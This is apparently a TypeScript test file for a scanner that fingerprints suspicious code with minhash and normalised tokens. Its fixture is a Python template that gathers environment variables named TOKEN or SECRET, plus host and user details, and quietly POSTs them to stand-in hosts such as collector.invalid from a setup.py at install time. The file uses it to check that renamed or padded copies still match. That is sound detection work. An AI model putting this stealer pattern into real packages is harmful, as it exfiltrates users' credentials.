import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Finding } from '../../../src/contracts/result.ts';
import { fingerprintOf } from '../../../src/similarity/fingerprint.ts';
import { bandsOf, minhash, resemblance, toBytes, toSignature } from '../../../src/similarity/minhash.ts';
import { normalisedTokens } from '../../../src/similarity/normalise.ts';

const sender = (host: string, names: [string, string], extra = '') => `import os, socket, urllib.request
def ${names[0]}():
    data = {}
    for key, value in os.environ.items():
        if 'TOKEN' in key or 'SECRET' in key:
            data[key] = value
    data['host'] = socket.gethostname()
    data['user'] = os.getlogin()
    data['where'] = os.getcwd()
${extra}    ${names[1]} = urllib.request.Request('https://${host}/collect', data=str(data).encode())
    ${names[1]}.add_header('Content-Type', 'application/json')
    try:
        urllib.request.urlopen(${names[1]}, timeout=5).read()
    except Exception:
        pass
${names[0]}()
`;

const other = `class Table:
    def __init__(self, rows):
        self.rows = [list(row) for row in rows]
    def render(self):
        widths = [max(len(str(cell)) for cell in column) for column in zip(*self.rows)]
        for row in self.rows:
            yield ' | '.join(str(cell).ljust(width) for cell, width in zip(row, widths))
    def sort(self, key, reverse=False):
        self.rows.sort(key=lambda row: row[key], reverse=reverse)
        return self
    def group(self, key):
        groups = {}
        for row in self.rows:
            groups.setdefault(row[key], []).append(row)
        return groups
`;

const signature = (text: string) => minhash(normalisedTokens(text))!;

function finding(line: number): Finding {
  const place = { path: 'x/setup.py', line, column: 1, layer: null, phase: 'install' as const };
  return { rule: 'a/b', title: '', message: '', trail: [], contribution: 1, ...place };
}

describe('normalised code', () => {
  it('keeps what is called and reached, and drops what is named at will', () => {
    assert.deepEqual(
      normalisedTokens(`requests.post(url, data={'a': 12})  # tell them\nfoo = "it's" + bar`),
      'v . post ( v , v = { s : 0 } ) v = s + v'.split(' '),
    );
  });

  it('takes time in proportion to the text', () => {
    assert.equal(normalisedTokens(`${'"'.repeat(100_000)}`).length, 50_000);
  });
});

describe('fingerprints', () => {
  const original = sender('collector.invalid', ['send', 'request']);

  it('are the same when only names, addresses and comments differ', () => {
    const copy = sender('other.example', ['run_me', 'packet']).replace('import os', '# a comment\nimport os');
    assert.equal(resemblance(signature(original), signature(copy)) > 0.9, true);
    const exact = (text: string) => fingerprintOf([finding(8)], () => text)!.exact;
    assert.equal(exact(original), exact(original.replaceAll('data', 'things')));
    assert.notEqual(exact(original), exact(other));
  });

  it('share a band when a few lines were added, and none with other code', () => {
    const grown = sender(
      'c.invalid',
      ['go', 'r'],
      "    data['cwd'] = os.path.abspath('.')\n    print('working')\n",
    );
    const bands = new Set(bandsOf(signature(original)));
    assert.equal(
      bandsOf(signature(grown)).some((band) => bands.has(band)),
      true,
    );
    assert.equal(
      bandsOf(signature(other)).some((band) => bands.has(band)),
      false,
    );
    assert.equal(resemblance(signature(original), signature(grown)) > 0.6, true);
    assert.equal(resemblance(signature(original), signature(other)) < 0.2, true);
  });

  it('are of the code around the findings, whatever surrounds it', () => {
    const padding = other.repeat(20);
    const lines = padding.split('\n').length;
    const bare = fingerprintOf([finding(30)], () => `${'\n'.repeat(25)}${original}`);
    const buried = fingerprintOf([finding(lines + 29)], () => `${padding}${'\n'.repeat(25)}${original}`);
    assert.deepEqual(bare, buried);
    const signature = toSignature(Buffer.from(bare!.minhash!, 'base64'))!;
    assert.equal(Buffer.from(toBytes(signature)).toString('base64'), bare!.minhash);
  });

  it('are absent without code, and have no signature for a line', () => {
    assert.equal(
      fingerprintOf([finding(1)], () => null),
      null,
    );
    assert.equal(
      fingerprintOf([], () => original),
      null,
    );
    assert.deepEqual(fingerprintOf([finding(1)], () => 'exec(x)')?.minhash, null);
  });
});
